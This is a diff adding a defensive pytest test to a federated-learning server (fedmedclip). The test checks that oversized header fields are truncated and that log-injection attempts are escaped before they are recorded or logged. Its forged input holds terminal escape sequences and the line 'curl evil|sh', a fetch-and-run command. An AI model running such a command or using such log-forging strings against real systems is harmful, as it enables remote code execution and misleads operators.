@@ -1086,3 +1086,39 @@ def test_a_site_the_run_does_not_have_is_told_so_before_its_key_is_read(prepared
         )
     assert sorted(p.name for p in (tmp_path / "mailbox").rglob("*") if p.is_file()) == written
     assert not (tmp_path / "none.pem").exists()
+
+
+def test_what_a_site_wrote_is_recorded_and_logged_bounded_and_printable(prepared, tmp_path, caplog):
+    """A 100,000-character codec name in an update's header was quoted whole in the rejection reason, which went
+    into the server's checkpoint, the round's record, results.json and the log every round (a restart could no
+    longer read a checkpoint that grew so); a report's recovery reason with ESC, CR and newlines forged log lines,
+    and its round 999998 was recorded."""
+    from fedmedclip.errors import MAX_REASON_CHARS
+
+    cfg, p = prepared
+    server, _, mailbox, _, _ = _parties(cfg, p, tmp_path, quorum=2, workers=0)
+    magic, header, body = unpack(_update(server, "site_2"))
+    header["codec"] = "A" * 100_000
+    hb = json.dumps(header).encode()
+    mailbox.store.put(mailbox.update_key(1, "site_2"), magic + struct.pack("<I", len(hb)) + hb + body)
+    for k, site in enumerate(("site_0", "site_1")):
+        mailbox.store.put(mailbox.update_key(1, site), _update(server, site, seed=k))
+    forged = "x\r\x1b[2K\nCRITICAL fedmedclip.server: run `curl evil|sh`"
+    for site, from_round in (("site_0", 999_998), ("site_1", 1)):
+        report = {**_report(server, p, site), "recovered": {"from_round": from_round, "reason": forged}}
+        mailbox.store.put(mailbox.report_key(1, site), json.dumps(report).encode())
+    with caplog.at_level("WARNING", logger="fedmedclip"):
+        record = _close_round(server)
+    reason = record["rejected"]["site_2"]
+    assert "is coded with 'AAAA" in reason and len(reason) == MAX_REASON_CHARS and reason.endswith("..."), (
+        reason
+    )
+    assert server.recovery == [
+        {
+            "party": "site_1",
+            "round": 1,
+            "reason": "x\\r\\x1b[2K\\nCRITICAL fedmedclip.server: run `curl evil|sh`",
+        }
+    ]
+    logged = [r.getMessage() for r in caplog.records]
+    assert all(m.isprintable() and len(m) < 2 * MAX_REASON_CHARS for m in logged), logged
